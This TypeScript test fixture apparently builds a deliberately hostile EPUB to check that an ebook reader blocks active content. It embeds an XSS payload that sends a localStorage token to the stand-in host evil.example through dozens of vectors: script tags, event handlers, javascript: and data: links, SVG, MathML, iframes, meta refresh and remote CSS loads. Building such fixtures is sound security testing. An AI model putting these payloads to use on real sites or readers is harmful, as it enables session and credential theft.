import { epub } from './ebooks.ts'

/** Nothing answers there, but the browser would still report a request to it. */
export const EVIL = 'https://evil.example'

const STEAL = `fetch('${EVIL}/?' + localStorage.getItem('token')); top.stolen = true`

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="${STEAL}">
<script>${STEAL}</script><image href="${EVIL}/svg.png"/><use xlink:href="${EVIL}/use.svg#a"/>
<a xlink:href="javascript:${STEAL}"><text y="5">svg link</text></a><set attributeName="href" to="javascript:${STEAL}"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${EVIL}/foreign.png" alt=""/></body></foreignObject></svg>`

const CSS = `@import url("${EVIL}/import.css"); @import "${EVIL}/import2.css";
@font-face { font-family: Evil; src: url(${EVIL}/font.woff2); }
body { font-family: Evil; background-image: url('${EVIL}/background.png'); }
p::after { content: url(${EVIL}/after.png); } li { list-style: u\\72l(${EVIL}/escaped.png); }`

/** Tries everything a page can try: running scripts, loading, sending, navigating away. */
export const hostileEpub = (): Buffer =>
  epub({
    title: 'Hostile',
    files: {
      'evil.js': { type: 'text/javascript', content: STEAL },
      'evil.css': { type: 'text/css', content: CSS },
      'evil.svg': { type: 'image/svg+xml', content: SVG },
    },
    chapters: [
      {
        title: 'Trap',
        head: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"/><base href="${EVIL}/"/>
<link rel="stylesheet" href="evil.css"/><link rel="stylesheet" href="${EVIL}/remote.css"/>
<link rel="preload" as="image" href="${EVIL}/preload.png"/><link rel="dns-prefetch" href="${EVIL}"/>
<style>${CSS}</style><script>${STEAL}</script><script src="evil.js"></script><script src="${EVIL}/remote.js"></script>`,
        body: `<p id="text">The text is still there.</p>
<img src="${EVIL}/picture.png" alt="remote"/><img src="x" onerror="${STEAL}" alt="broken"/>
<img srcset="${EVIL}/srcset.png 2x" alt=""/><picture><source srcset="${EVIL}/source.png"/><img alt=""/></picture>
<video src="${EVIL}/film.mp4" poster="${EVIL}/poster.png" autoplay="autoplay"></video><audio src="${EVIL}/sound.mp3"></audio>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;${STEAL}&lt;/script&gt;"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"/>
<form action="${EVIL}/form" method="post"><input name="a" autofocus="autofocus" onfocus="${STEAL}"/><button>Send</button></form>
<p><a id="script-link" href="javascript:${STEAL}">script link</a> <a id="data-link" href="data:text/html,&lt;script&gt;${STEAL}&lt;/script&gt;">data link</a>
<a id="ping-link" href="#text" ping="${EVIL}/ping">ping link</a></p>
<p style="background: url(${EVIL}/style.png)" onclick="${STEAL}" onmouseover="${STEAL}">styled</p>
<ul><li>escaped</li></ul><object data="evil.svg" type="image/svg+xml"></object><img src="evil.svg" alt=""/>${SVG}
<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${STEAL}" xmlns:xlink="http://www.w3.org/1999/xlink"><mi>x</mi></maction></math>
<script>${STEAL}</script>`,
      },
    ],
  })
